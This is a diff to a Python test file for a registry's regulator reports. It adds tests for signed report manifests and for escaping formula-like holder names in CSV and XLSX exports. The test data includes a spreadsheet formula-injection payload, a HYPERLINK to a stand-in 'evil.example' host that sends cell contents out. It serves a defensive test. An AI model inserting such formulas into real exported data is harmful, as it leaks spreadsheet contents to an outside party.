@@ -1,11 +1,13 @@
 """Regulator reports: opened with independent readers, signatures checked with PyJWT."""
 
 import csv
+import hashlib
 import io
 import json
 from collections.abc import Iterator
 from datetime import UTC, date, datetime
 from pathlib import Path
+from typing import Any
 
 import openpyxl
 import pytest
@@ -17,7 +19,7 @@ from registry.settings import Settings
 from registry.signing import Keys, open_keys
 from tests.api.conftest import SUSPENSION, Api, detached_verifies
 from tests.conftest import Clock
-from tests.examples import issue_request
+from tests.examples import HOLDER, issue_request
 
 TODAY = {"from": "2026-11-25", "to": "2026-11-25"}
 
@@ -64,6 +66,29 @@ def test_xlsx_report_opens_with_openpyxl(api: Api) -> None:
     assert detached_verifies(api, signature, body)
 
 
+FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+
+
+def test_a_holder_name_starting_a_formula_is_neutralised_in_the_csv_report(api: Api) -> None:
+    api.issue(holder=HOLDER | {"name": FORMULA})
+
+    body, _ = report(api, "csv")
+
+    rows = list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"))))
+    assert rows[0]["获证组织"] == "'" + FORMULA
+
+
+def test_a_holder_name_starting_a_formula_is_a_string_in_the_xlsx_report(api: Api) -> None:
+    api.issue(holder=HOLDER | {"name": FORMULA})
+
+    body, _ = report(api, "xlsx")
+
+    sheet = openpyxl.load_workbook(io.BytesIO(body)).active
+    assert sheet is not None
+    assert [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"] == []
+    assert sheet["D2"].value == FORMULA
+
+
 def test_json_report_lists_the_period(api: Api) -> None:
     api.issue()
 
@@ -72,6 +97,45 @@ def test_json_report_lists_the_period(api: Api) -> None:
 
     assert json.loads(body)["items"][0]["event_name"] == "颁证"
     assert json.loads(empty) == {"from": "2026-11-26", "to": "2026-11-30", "items": []}
+
+
+def manifest_of(api: Api, fmt: str, **period: str) -> tuple[bytes, dict[str, Any], bool]:
+    """(body, manifest, whether the manifest's signature verifies) of a served report."""
+    response = api.client.get(
+        "/api/v1/regulator/reports",
+        params={**period, "format": fmt},
+        headers=api.auth("regulator"),
+    )
+    manifest = response.headers["X-Registry-Manifest"].encode()
+    signed = detached_verifies(api, response.headers["X-Registry-Manifest-Signature"], manifest)
+    return response.content, json.loads(manifest), signed
+
+
+def test_two_empty_reports_of_different_months_have_different_signed_manifests(
+    api: Api,
+) -> None:
+    september = {"from": "2026-09-01", "to": "2026-09-30"}
+    october = {"from": "2026-10-01", "to": "2026-10-31"}
+
+    body_9, manifest_9, signed_9 = manifest_of(api, "csv", **september)
+    body_10, manifest_10, signed_10 = manifest_of(api, "csv", **october)
+
+    assert body_9 == body_10
+    assert (signed_9, signed_10) == (True, True)
+    assert manifest_9 == {
+        "from": "2026-09-01",
+        "to": "2026-09-30",
+        "format": "csv",
+        "generated_at": "2026-11-25T02:00:00+00:00",
+        "sha256": hashlib.sha256(body_9).hexdigest(),
+    }
+    assert manifest_10["from"] == "2026-10-01"
+
+
+def test_the_manifest_names_the_format(api: Api) -> None:
+    _, manifest, _ = manifest_of(api, "json", **TODAY)
+
+    assert manifest["format"] == "json"
 
 
 def test_reports_are_for_the_regulator_and_refuse_bad_periods(api: Api) -> None:
@@ -123,6 +187,13 @@ def test_monthly_report_is_written_signed_and_recorded(
     rows = list(csv.DictReader(io.StringIO(path.read_bytes().decode("utf-8-sig"))))
     assert [r["事件"] for r in rows] == ["Issued", "Suspended"]
     assert (path.parent / "regulator-report-2026-10.xlsx.jws").exists()
+    manifest = json.loads((path.parent / "regulator-report-2026-10.csv.manifest.json").read_text())
+    assert (manifest["from"], manifest["to"], manifest["format"]) == (
+        "2026-10-01",
+        "2026-10-31",
+        "csv",
+    )
+    assert (path.parent / "regulator-report-2026-10.csv.manifest.json.jws").exists()
     assert overdue(registry) == []
     clock.now = datetime(2026, 12, 20, 2, tzinfo=UTC)
     assert overdue(registry) == []
